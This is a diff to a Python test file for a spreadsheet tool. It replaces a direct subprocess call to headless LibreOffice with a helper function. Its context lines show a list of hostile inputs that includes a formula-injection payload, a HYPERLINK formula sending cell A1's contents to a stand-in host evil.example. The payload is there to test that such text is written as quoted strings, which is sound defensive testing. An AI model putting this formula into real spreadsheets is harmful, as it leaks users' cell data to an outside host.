@@ -4,7 +4,6 @@ from __future__ import annotations
 
 import csv
 import io
-import subprocess
 from pathlib import Path
 
 import openpyxl
@@ -16,7 +15,7 @@ from planrev.render.sheet_writeback import write_filled_sheet
 from planrev.storage.documents import load_opinions
 from planrev_console.main import main
 from tests.sheets_support import DRAFTS, committee_workbook, drafts_copy, saved, snapshot
-from tests.tools import require_tool
+from tests.tools import require_tool, run_tool
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"クリック")',
@@ -181,12 +180,10 @@ def test_formula_like_text_is_written_as_quoted_strings(tmp_path: Path) -> None:
 
 
 def _calc_csv(soffice: str, path: Path, out: Path) -> list[list[str]]:
-    subprocess.run(
+    run_tool(
         [soffice, "--headless", "--convert-to", 'csv:Text - txt - csv (StarCalc):44,34,76,1',
          "--outdir", str(out), str(path)],
-        check=True,
         capture_output=True,
-        timeout=300,
     )  # fmt: skip
     text = (out / (path.stem + ".csv")).read_text(encoding="utf-8")
     return list(csv.reader(io.StringIO(text, newline="")))
